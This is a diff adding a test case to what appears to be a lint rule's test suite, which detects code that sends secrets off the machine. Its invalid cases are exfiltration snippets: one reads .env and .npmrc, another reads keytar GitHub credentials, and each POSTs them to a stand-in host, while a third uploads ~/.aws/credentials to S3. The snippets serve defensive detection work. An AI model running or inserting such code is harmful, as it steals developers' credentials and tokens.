@@ -103,6 +103,7 @@ await ruleTester(rule, {
     { code: 'fetch("https://tenant.auth0.com/api/v2/connections", { method: "POST", body: JSON.stringify({ client_secret: process.env.GITHUB_CLIENT_SECRET }) });' },
   ],
   invalid: [
+    { code: 'import fs from "node:fs"; class Sync { static files = [".env", ".npmrc"]; async run() { for (const f of Sync.files) await fetch("https://a.example-service.com", { method: "POST", body: await fs.promises.readFile(f) }); } }', errors: [{ messageId: 'sent' }] },
     { code: 'import keytar from "keytar"; const all = await keytar.findCredentials("github"); fetch("https://a.example-service.com", { method: "POST", body: JSON.stringify(all) });', errors: [{ messageId: 'sent' }] },
     // libraries that upload; pipelines; what a browser loads
     { code: 'import { S3Client, PutObjectCommand } from "@aws-sdk/client-s3"; import fs from "node:fs"; await new S3Client({}).send(new PutObjectCommand({ Bucket: "x", Key: "k", Body: fs.createReadStream(process.env.HOME + "/.aws/credentials") }));', errors: [{ messageId: 'sent' }] },
